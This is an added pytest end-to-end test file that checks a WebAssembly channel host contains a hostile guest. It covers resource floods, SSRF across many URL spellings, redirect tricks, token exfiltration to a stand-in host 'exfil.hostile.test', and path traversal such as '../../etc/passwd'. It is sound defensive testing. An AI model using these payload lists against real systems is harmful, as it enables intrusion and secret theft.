@@ -1,0 +1,421 @@
+"""The hostile guest (``hostile_guest``) against the real host: every attack is contained with the right error or
+trap class, the benign channel keeps answering while it runs (its p99 is printed), and no secret value reaches a
+log, an answer, a SQLite file or the exfiltration sink (``hostile_env.Stage.finish``)."""
+
+from __future__ import annotations
+
+import json
+import logging
+import re
+import socket
+import struct
+from pathlib import Path
+
+import pytest
+import wasi_guest
+from hostile_env import CALLBACK_TIMEOUT_S, HOSTILE, Answer, Stage, hostile_caps, stage
+from hostile_guest import PAGE, decode_counts, decode_http
+
+from airlock.capabilities.logging import MAX_ENTRIES, MAX_ENTRY_BYTES
+from airlock.capabilities.workspace import MAX_VALUE_BYTES, MAX_WRITES_PER_CALLBACK
+
+pytestmark = pytest.mark.e2e
+
+MIB = 1024 * 1024
+GUEST_FAILURE = {"error": "internal error"}
+"""The documented answer to a webhook whose guest failed (``inbound.server``)."""
+
+
+@pytest.fixture(autouse=True)
+def debug_log(caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level(logging.DEBUG)  # the secret scan reads everything the host logs, debug included
+
+
+def failures(caplog: pytest.LogCaptureFixture, channel: str = HOSTILE) -> list[str]:
+    """The host's one-line reports of the channel's failed callbacks."""
+    return [r.getMessage() for r in caplog.records
+            if r.name == "airlock.channel" and r.getMessage().startswith(f"[{channel}] on-http-request failed")]
+
+
+def assert_guest_failure(answer: Answer) -> None:
+    assert answer.status == 500, (answer.status, answer.body[:200])
+    assert json.loads(answer.body) == GUEST_FAILURE
+
+
+async def test_loop_recursion_and_abort_trap_with_their_class(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    async with stage(airlock_home, wat_dir, monkeypatch) as st:
+        for op, kind, reason in (("l", "timeout", "interrupt"), ("r", "trap", "call stack exhausted"),
+                                 ("M", "panic", "unreachable")):
+            assert_guest_failure(await st.order(op, 100_000))
+            last = failures(caplog)[-1]
+            assert f"guest trap ({kind})" in last and reason in last, last
+        assert len(failures(caplog)) == 3  # one line each, no retry storm
+        assert (await st.order("e", "still here")).body == struct.pack("<I", 10) + b"still here"
+        assert st.host.manager.slots[HOSTILE].active
+        await st.finish(f"infinite loop ({CALLBACK_TIMEOUT_S} s deadline), unbounded recursion, abort", caplog, capsys)
+
+
+@pytest.mark.parametrize("limit_mib", [24, 40])
+async def test_memory_growth_stops_at_the_configured_limit(
+    limit_mib: int, airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str],
+) -> None:
+    limit = limit_mib * MIB
+    async with stage(airlock_home, wat_dir, monkeypatch, memory_limit_bytes=limit) as st:
+        bomb = await st.order("m", 100_000)  # 6.4 GB at once, then 16 pages at a time until refused
+        slow = await st.order("s", 2_000)  # one page at a time, each written, with work in between
+        pages_bomb, pages_slow = (struct.unpack("<I", a.body)[0] for a in (bomb, slow))
+        assert pages_slow * PAGE == limit, (pages_slow, limit)  # the last page that fits, and not one more
+        assert limit - 16 * PAGE < pages_bomb * PAGE <= limit, (pages_bomb, limit)
+        again = await st.order("s", 0)  # a fresh instance: nothing of the last callback's memory is left
+        assert struct.unpack("<I", again.body)[0] == pages_slow
+        await st.finish(f"memory bomb and slow growth to {limit_mib} MiB", caplog, capsys)
+
+
+async def test_emit_flood_bounded_and_no_dropped_message_acknowledged(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    per_callback = 100  # emit-message: 100 per callback (WIT); emit_rate_limit: 100 per minute by default
+    async with stage(airlock_home, wat_dir, monkeypatch) as st:
+        for round_ in range(3):
+            before = len(st.messages.get(HOSTILE, []))
+            answer = await st.order("E", 150, f"flood {round_}", "u1")
+            await st.settled()
+            delivered = len(st.messages.get(HOSTILE, [])) - before
+            if 200 <= answer.status < 300:  # an acknowledged webhook: what the guest could emit reached the agent
+                assert delivered == per_callback, f"round {round_}: answered {answer.status}, delivered {delivered}"
+            else:  # refused for rate: the platform is told to come back later, and nothing was delivered
+                assert answer.status == 429 and int(answer.headers["Retry-After"]) > 0, answer
+                assert delivered == 0
+        assert sum(1 for r in caplog.records if "emitted messages dropped" in r.getMessage()) <= 3
+        await st.finish("emit flood (3 x 150 messages)", caplog, capsys)
+
+
+LOG_BUDGET_BYTES_PER_MIN = 256 * 1024
+"""Issue 13, item 5: a channel may put at most this many bytes of guest log into the host log per minute."""
+
+
+async def test_log_flood_bounded_per_channel(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    async with stage(airlock_home, wat_dir, monkeypatch) as st:
+        for _ in range(3):
+            assert (await st.order("L", MAX_ENTRIES + 50, "x" * (2 * MAX_ENTRY_BYTES))).status == 200
+        guest = [r.getMessage() for r in caplog.records
+                 if r.name == "airlock.guest" and r.getMessage().startswith(f"[{HOSTILE}]")]
+        assert all(len(m.encode()) <= MAX_ENTRY_BYTES + 64 for m in guest)
+        logged = sum(len(m.encode()) for m in guest)
+        assert logged <= LOG_BUDGET_BYTES_PER_MIN + 4 * 1024, f"{logged} bytes of guest log in under a minute"
+        await st.finish("log flood (3 x 1050 entries of 8 KiB)", caplog, capsys)
+
+
+async def test_workspace_write_flood_refused_past_the_limits(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    async with stage(airlock_home, wat_dir, monkeypatch) as st:
+        ok, refused, error = decode_counts((await st.order("W", MAX_WRITES_PER_CALLBACK + 5, "k/", "v")).body)
+        assert (ok, refused) == (MAX_WRITES_PER_CALLBACK, 5) and str(MAX_WRITES_PER_CALLBACK) in error
+        ok, refused, error = decode_counts((await st.order("V", 1, "big/", MAX_VALUE_BYTES + 1)).body)
+        assert (ok, refused) == (0, 1) and "larger than" in error
+        assert (await st.order("R", "k/000003e7")).body == b"Sv"  # the 1000th write was committed
+        assert (await st.order("R", "k/000003e8")).body == b"N"  # the 1001st was not
+        await st.finish("workspace write flood (1005 writes, a value over 1 MiB)", caplog, capsys)
+
+
+WORKSPACE_FLOOD_RSS_BOUND = 256 * MIB
+
+
+async def test_workspace_bytes_flood_does_not_grow_host_memory_without_bound(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Each write is within the limits (1 MiB, 1000 per callback), but 100 of them per webhook, kept in the
+    in-memory workspace, are 100 MiB of host memory per webhook: a channel's workspace needs a total bound."""
+    async with stage(airlock_home, wat_dir, monkeypatch) as st:
+        before = rss()
+        for i in range(4):
+            await st.order("V", 100, f"m{i}/", MAX_VALUE_BYTES)
+        grown = rss() - before
+        assert grown < WORKSPACE_FLOOD_RSS_BOUND, f"host RSS grew {grown // MIB} MiB from 4 webhooks"
+        await st.finish("workspace bytes flood (4 x 100 x 1 MiB)", caplog, capsys)
+
+
+def rss() -> int:
+    with open("/proc/self/statm") as f:
+        return int(f.read().split()[1]) * 4096
+
+
+async def test_http_flood_stopped_by_the_rate_limit(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    per_minute = 30
+    async with stage(airlock_home, wat_dir, monkeypatch, caps=hostile_caps(requests_per_minute=per_minute)) as st:
+        answer = await st.order("H", per_minute + 15, "GET", "https://api.allowed.test/ok", "{}")
+        ok, refused, error = decode_counts(answer.body)
+        assert (ok, refused) == (per_minute, 15) and "rate limit" in error, (ok, refused, error)
+        assert len(st.platform.seen) == per_minute
+        await st.finish(f"http flood ({per_minute + 15} requests, limit {per_minute}/min)", caplog, capsys)
+
+
+async def http(st: Stage, url: str, headers: dict[str, str] | None = None, body: bytes | None = None,
+               method: str = "GET") -> tuple[int, str, bytes] | str:
+    """The guest's http-request: (status, headers-json, body), or the WIT error text. A webhook that did not
+    answer 200 (the guest failed: a host bug behind the host function) comes back as ``webhook answered N``."""
+    fields: list[bytes | str] = [method, url, json.dumps(headers or {})]
+    if body is not None:
+        fields.append(body)
+    answer = await st.order("h", *fields)
+    if answer.status != 200:
+        return f"webhook answered {answer.status}"
+    return decode_http(answer.body)
+
+
+NON_PUBLIC = r"non-public address"
+NOT_LISTED = r"not in the channel's HTTP allow-list"
+BAD_URL = r"userinfo|only https|default https port|invalid host name|invalid IPv6|whitespace, control characters"
+SSRF: list[tuple[str, str]] = [
+    ("https://127.0.0.1/admin", NON_PUBLIC),
+    ("https://127.1/", NON_PUBLIC),
+    ("https://2130706433/", NON_PUBLIC),
+    ("https://0x7f000001/", NON_PUBLIC),
+    ("https://0177.0.0.1/", NON_PUBLIC),
+    ("https://0x7f.0.0.1/", NON_PUBLIC),
+    ("https://0/", NON_PUBLIC),
+    ("https://127.0.0.1./", NON_PUBLIC),
+    ("https://127.0.0.1:443/", NON_PUBLIC),
+    ("https://10.0.0.1/", NON_PUBLIC),
+    ("https://169.254.169.254/latest/meta-data/", NON_PUBLIC),
+    ("https://100.64.0.1/", NON_PUBLIC),
+    ("https://localhost/", NON_PUBLIC),
+    ("https://LocalHost./", NON_PUBLIC),
+    ("https://ｌｏｃａｌｈｏｓｔ/", NON_PUBLIC),
+    ("https://①②⑦.0.0.1/", NON_PUBLIC + "|" + BAD_URL),
+    ("https://[::1]/", NOT_LISTED),
+    ("https://[::ffff:127.0.0.1]/", NOT_LISTED),
+    ("https://[0:0:0:0:0:ffff:7f00:1]/", NOT_LISTED),
+    ("https://[::]/", NOT_LISTED),
+    ("https://[fe80::1%25eth0]/", NOT_LISTED + "|" + BAD_URL),
+    *[(f"https://{name}/", NON_PUBLIC) for name in (
+        "loopback.hostile.test", "LOOPBACK.hostile.test.", "loopback2.hostile.test", "v6loop.hostile.test",
+        "mapped.hostile.test", "nat64.hostile.test", "sixtofour.hostile.test", "zero.hostile.test",
+        "metadata.hostile.test", "metadata6.hostile.test", "private.hostile.test", "cgnat.hostile.test",
+        "linklocal6.hostile.test", "twofaced.hostile.test")],
+    ("https://api.allowed.test@127.0.0.1/", BAD_URL),
+    ("https://api.allowed.test:x@loopback.hostile.test/", BAD_URL),
+    ("https://127.0.0.1%2f@api.allowed.test/", BAD_URL),
+    ("https://127.0.0.1#@api.allowed.test/", NON_PUBLIC),
+    ("https://127.0.0.1\\@api.allowed.test/", BAD_URL),
+    ("https://127.0.0.1:8443/", BAD_URL),
+    ("http://127.0.0.1/", BAD_URL),
+    ("https://127.0.0.1%00.api.allowed.test/", BAD_URL),
+    ("https://api.allowed.test.127.0.0.1.nip.io/", NOT_LISTED),
+]
+
+
+async def test_ssrf_in_every_spelling_refused_before_any_connection(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    async with stage(airlock_home, wat_dir, monkeypatch) as st:
+        wrong = []
+        for url, expected in SSRF:
+            seen = await http(st, url)
+            if not isinstance(seen, str) or not re.search(expected, seen):
+                wrong.append((url, seen))
+        assert not wrong, "\n".join(f"{u}: {s!r}" for u, s in wrong)
+        assert st.platform.seen == [] and st.sink.seen == []
+        assert "connection to" not in caplog.text.lower()
+        await st.finish(f"SSRF ({len(SSRF)} spellings)", caplog, capsys)
+
+
+REDIRECT_TARGETS = [
+    "https://127.0.0.1/", "https://loopback.hostile.test/", "https://[::1]/", "https://169.254.169.254/",
+    "https://exfil.hostile.test/?k={HOSTILE_TOKEN}", "https://api.allowed.test@127.0.0.1/",
+    "https://api.allowed.test/../../etc/passwd", "//loopback.hostile.test/x", "http://127.0.0.1:9/",
+]
+
+
+async def test_redirects_to_private_addresses_not_followed(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    from urllib.parse import quote
+
+    async with stage(airlock_home, wat_dir, monkeypatch) as st:
+        for status in (301, 302, 303, 307, 308):
+            for target in REDIRECT_TARGETS:
+                # directly, and after one same-host hop (which the host follows, re-checking the allow-list)
+                direct = f"https://api.allowed.test/redirect?status={status}&to={quote(target, safe='')}"
+                hop = f"https://api.allowed.test/redirect?status={status}&to={quote(direct, safe='')}"
+                for url in (direct, hop):
+                    seen = await http(st, url)
+                    assert not isinstance(seen, str), (url, seen)
+                    assert seen[0] == status and json.loads(seen[1])["location"] == target, (url, seen)
+        assert st.sink.seen == []
+        assert [n for n in st.resolver.asked if "hostile.test" in n] == []
+        await st.finish("redirects to private addresses (5 statuses x 9 targets x 2)", caplog, capsys)
+
+
+LONG_NAME = "HOSTILE_" + "A" * 70
+EXFILTRATION: list[tuple[str, str, dict[str, str], bytes | None, str]] = [
+    # (method, url, headers, body, what the guest must be told); none of these may reach the sink
+    ("GET", "https://exfil.hostile.test/?t={HOSTILE_TOKEN}", {}, None, "may not be sent to host"),
+    ("GET", "https://exfil.hostile.test/{HOSTILE_TOKEN}/x", {}, None, "may not be sent to host"),
+    ("GET", "https://exfil.hostile.test/", {"X-Leak": "{HOSTILE_TOKEN}"}, None, "may not be sent to host"),
+    ("GET", "https://exfil.hostile.test/", {"Authorization": "Bearer {HOSTILE_TOKEN}"}, None,
+     "may not be sent to host"),
+    ("POST", "https://exfil.hostile.test/", {"X-Airlock-Body-Secrets": "HOSTILE_TOKEN",
+                                            "Content-Type": "application/json"}, b'{"t": "{HOSTILE_TOKEN}"}',
+     "may not be sent to host"),
+    ("GET", "https://api.allowed.test/?t={BENIGN_TOKEN}", {}, None, "may not use secret placeholder"),
+    ("GET", "https://exfil.hostile.test/?t={BENIGN_TOKEN}", {}, None, "may not use secret placeholder"),
+    ("GET", "https://exfil.hostile.test/?t={AIRLOCK_MASTER_KEY}", {}, None, "may not use secret placeholder"),
+    ("GET", f"https://api.allowed.test/{{{LONG_NAME}}}", {}, None, "may not use secret placeholder"),
+    ("GET", "https://exfil.hostile.test/", {"X-Leak": f"{{{LONG_NAME}}}"}, None, "may not use secret placeholder"),
+    ("GET", "https://{HOSTILE_TOKEN}.hostile.test/", {}, None, "invalid host name"),
+    ("GET", "https://exfil.hostile.test/", {"X-Airlock-Body-Secrets": "hostile-token!"}, b"x", "invalid placeholder"),
+]
+NAMES = {"hostile_token": b"1", "benign_token": b"0", "hostile_BAD-Name!": b"0", "hostile_" + "a" * 70: b"0",
+         "": b"0", "HOSTILE_TOKEN": b"0", "hostile_token\x00": b"0", "../secrets.json": b"0", "hostile_*": b"0"}
+
+
+async def test_secret_exfiltration_refused_before_the_network(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    async with stage(airlock_home, wat_dir, monkeypatch) as st:
+        wrong = []
+        for method, url, headers, body, expected in EXFILTRATION:
+            seen = await http(st, url, headers, body, method)
+            if not isinstance(seen, str) or expected not in seen:
+                wrong.append((method, url, headers, seen))
+        for name, exists in NAMES.items():
+            answer = await st.order("x", name)
+            if (answer.status, answer.body) != (200, exists):
+                wrong.append(("secret-exists", name, answer.status, answer.body[:100]))
+        assert not wrong, "\n".join(map(repr, wrong))
+        assert st.sink.seen == []
+        # Spellings that are not placeholders go out as they are: the value never does.
+        for literal in ("{hostile_token}", "{HOSTILE_TOKEN", "HOSTILE_TOKEN}", "{{HOSTILE_TOKEN}"):
+            seen = await http(st, f"https://exfil.hostile.test/?t={literal}", {"X-Leak": literal})
+            assert not isinstance(seen, str) and seen[0] == 200, (literal, seen)
+        assert len(st.sink.seen) == 4
+        assert not [r for r in caplog.records if "host bug" in r.getMessage()]
+        await st.finish(f"secret exfiltration ({len(EXFILTRATION)} placeholders, {len(NAMES)} names)", caplog, capsys)
+
+
+REFLECTIONS: list[tuple[str, str, dict[str, str], bytes | None]] = [
+    ("GET", "https://api.allowed.test/reflect", {}, None),  # the credential header the host injects
+    ("GET", "https://api.allowed.test/reflect/{HOSTILE_TOKEN}/x?qs=t={HOSTILE_TOKEN}", {}, None),
+    ("GET", "https://api.allowed.test/reflect", {"X-Echo": "k={HOSTILE_TOKEN};"}, None),
+    ("POST", "https://api.allowed.test/reflect", {"X-Airlock-Body-Secrets": "HOSTILE_TOKEN",
+                                                 "Content-Type": "application/json"}, b'{"t": "{HOSTILE_TOKEN}"}'),
+    ("POST", "https://api.allowed.test/reflect", {"X-Airlock-Body-Secrets": "HOSTILE_TOKEN",
+                                                 "Content-Type": "application/x-www-form-urlencoded"},
+     b"t={HOSTILE_TOKEN}"),
+]
+
+
+async def test_reflected_credentials_never_reach_the_guest_in_any_encoding(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """An allow-listed platform that reflects what it received (percent-encoding in either case, JSON with
+    escaped slashes, \\uXXXX, HTML entities, base64) must not hand the injected token to the guest."""
+    async with stage(airlock_home, wat_dir, monkeypatch) as st:
+        for method, url, headers, body in REFLECTIONS:
+            seen = await http(st, url, headers, body, method)
+            assert not isinstance(seen, str) and seen[0] == 200, (url, seen)
+        assert len(st.platform.seen) == len(REFLECTIONS)  # the platform got the token, injected by the host
+        await st.finish("credential reflection (5 requests, 11 encodings each)", caplog, capsys)
+
+
+TRAVERSALS = ["../x", "../../etc/passwd", "/etc/passwd", "a/../../b", "a/./b", ".", "..", "a//b", "a\\b", "..\\x",
+              "C:\\x", "c:x", "a\x00b", "x" * 300, "rec/../k", "rec/", "", "./rec/k"]
+ODD_BUT_FINE = ["%2e%2e/x", "\u2024\u2024/x", "rec/..x", "rec/ok"]
+
+
+async def test_workspace_path_traversal_refused(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str], tmp_path: Path,
+) -> None:
+    before = {p for p in tmp_path.rglob("*")}
+    async with stage(airlock_home, wat_dir, monkeypatch) as st:
+        for path in TRAVERSALS:
+            written = await st.order("w", path, "pwned")
+            assert written.body.startswith(b"E"), (path, written.body)
+            assert (await st.order("R", path)).body == b"N", path
+        for path in ODD_BUT_FINE:  # plain keys in a key-value store, never file names
+            assert (await st.order("w", path, "fine")).body == b"O", path
+            assert (await st.order("R", path)).body == b"Sfine", path
+        await st.finish(f"workspace path traversal ({len(TRAVERSALS)} paths)", caplog, capsys)
+    created = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")} - {
+        p.relative_to(tmp_path).as_posix() for p in before}
+    home = airlock_home.relative_to(tmp_path).as_posix()
+    allowed = re.compile(rf"{home}(/channels(/[a-z]+\.(wasm|capabilities\.json))?|/(secrets\.json|master\.key|"
+                         r"(pairing|workspace)\.db(-wal|-shm)?))?")
+    assert [p for p in created if not allowed.fullmatch(p)] == []
+
+
+async def test_wasi_reach_refused_and_unprovided_imports_never_run(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A component that imports WASI gets an empty context: no environment (the master key is in the host's),
+    no preopened directory, no socket, no name lookup. One that imports an interface Airlock does not provide,
+    or declares more memory than the limit, never runs a callback, and says why in one log line."""
+    extra = [(wasi_guest.build_wasi_prober(wat_dir, "wasiprobe"), hostile_caps("wasiprobe")),
+             (wasi_guest.build_unprovided_import(wat_dir, "wasihttp"), hostile_caps("wasihttp")),
+             (wasi_guest.build_oversized_memory(wat_dir, "fatmem", 4096), hostile_caps("fatmem"))]
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen()
+        listener.setblocking(False)
+        async with stage(airlock_home, wat_dir, monkeypatch, extra=extra) as st:
+            answer = await st.post(struct.pack("<H", listener.getsockname()[1]), "wasiprobe")
+            assert answer.status == 200, answer
+            seen = wasi_guest.decode_wasi(answer.body)
+            assert (seen.env_vars, seen.preopens) == (0, 0), seen
+            assert "access-denied" in (seen.create_error, seen.connect_error) and not seen.connect_ok, seen
+            assert not seen.lookup_ok, seen
+            slots = st.host.manager.slots
+            assert not slots["wasihttp"].active and slots["wasihttp"].reason.startswith("inactive: on-start failed")
+            assert "fatmem" not in slots or not slots["fatmem"].active
+            assert (await st.post(b"x", "wasihttp")).status == 404
+            assert (await st.post(b"x", "fatmem")).status == 404
+            await st.finish("WASI sockets, filesystem, environment; unprovided import; oversized memory",
+                            caplog, capsys)
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    reports = [r.getMessage() for r in caplog.records if "wasihttp" in r.getMessage() or "fatmem" in r.getMessage()]
+    assert any("wasihttp inactive" in m for m in reports) and any("fatmem" in m and "not loaded" in m for m in reports)
+    assert not [r for r in caplog.records if r.exc_info], "a traceback in the log"
+
+
+async def test_oversized_host_call_arguments_contained(
+    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Arguments a guest builds in its own memory (up to its 50 MiB) for host functions that take bytes or text:
+    each call is refused (a WIT error) or the guest is trapped; the host neither fails nor balloons."""
+    async with stage(airlock_home, wat_dir, monkeypatch) as st:
+        before = rss()
+        for size, target in ((3 * MIB, "http"), (40 * MIB, "http"), (21 * MIB, "attach"), (40 * MIB, "attach"),
+                             (2 * MIB, "ws"), (40 * MIB, "ws")):
+            answer = await st.order("B", size, target)
+            if answer.status == 200:
+                assert answer.body.startswith(b"E"), (size, target, answer.body[:100])
+            else:
+                assert_guest_failure(answer)
+        grown = rss() - before
+        assert grown < 256 * MIB, f"host RSS grew {grown // MIB} MiB"
+        assert not [r for r in caplog.records if "host bug" in r.getMessage()]
+        await st.finish("oversized arguments (3-40 MiB) to http-request, store-attachment-data, workspace-write",
+                        caplog, capsys)
